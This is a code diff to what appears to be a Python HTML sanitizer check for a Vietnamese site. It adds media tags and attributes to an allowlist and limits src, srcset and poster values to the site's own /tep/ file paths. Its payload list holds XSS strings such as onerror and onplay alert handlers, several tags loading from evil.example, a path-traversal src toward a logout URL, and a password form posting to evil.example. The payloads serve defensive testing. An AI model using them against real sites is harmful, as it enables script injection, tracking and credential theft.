@@ -54,6 +54,14 @@ PAYLOADS = [
     '<form action="https://evil.example"><input name="password"><button>Gửi</button></form>',
     "<input autofocus onfocus=alert(1)>",
     "<video><source onerror=alert(1)></video>",
+    "<img src=//evil.example/tep/x.png>",
+    '<img src="/tep/../../dang-xuat">',
+    '<picture><source srcset="https://evil.example/a.webp 360w"></picture>',
+    "<video src=/hoc poster=https://evil.example/p.png autoplay></video>",
+    "<audio src=data:audio/wav;base64,AAAA onplay=alert(1) autoplay></audio>",
+    "<track src=https://evil.example/a.vtt kind=metadata>",
+    "<img src=x srcset='https://evil.example/b.png 2x'>",
+    "<svg><image href=https://evil.example/c.png></svg>",
     "<details open ontoggle=alert(1)>x</details>",
     "<template><script>alert(1)</script></template>",
     "<textarea><img src=x onerror=alert(1)></textarea>",
@@ -80,7 +88,14 @@ ATTRIBUTE = re.compile(r"""([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|\S+)""")
 HARMLESS = {
     *("p", "h2", "h3", "ul", "ol", "li", "strong", "em", "a", "blockquote", "code", "pre", "hr", "br"),
     *("table", "thead", "tbody", "tr", "th", "td", "sup", "article", "aside", "section", "div"),
+    *("figure", "figcaption", "picture", "source", "img", "video", "audio", "track", "small"),
 }
+SHOWS = {
+    *("alt", "width", "height", "loading", "decoding", "type", "sizes", "controls", "preload", "playsinline"),
+    *("kind", "srclang", "label", "default", "download"),
+}
+"""Attributes of what is shown that load nothing."""
+OURS = re.compile(r"/tep/[0-9a-f]{64}/[\w.-]+( \d+w)?(, /tep/[0-9a-f]{64}/[\w.-]+ \d+w)*")
 
 
 def dangers(html: str) -> list[str]:
@@ -91,9 +106,14 @@ def dangers(html: str) -> list[str]:
             found.append(tag)
         for name, value in ATTRIBUTE.findall(rest):
             plain = value.strip("\"'")
-            if name == "href" and not re.match(r"#(nguon|p)-|[a-z0-9-]+$|https?://|mailto:|tel:", plain):
+            if name == "href" and not re.match(
+                r"#(nguon|p)-|[a-z0-9-]+$|/tep/[0-9a-f]{64}/[\w.-]+$|https?://|mailto:|tel:", plain
+            ):
                 found.append(f"{name}={plain}")
-            if name not in ("href", "rel", "id", "data-p", "class", "aria-label", "start"):
+            if name in ("src", "srcset", "poster"):
+                if not OURS.fullmatch(plain):
+                    found.append(f"{name}={plain}")
+            elif name not in {"href", "rel", "id", "data-p", "class", "aria-label", "start"} | SHOWS:
                 found.append(name)
             if name == "id" and not re.fullmatch(r"(p|nguon)-\d+", plain):
                 found.append(f"{name}={plain}")
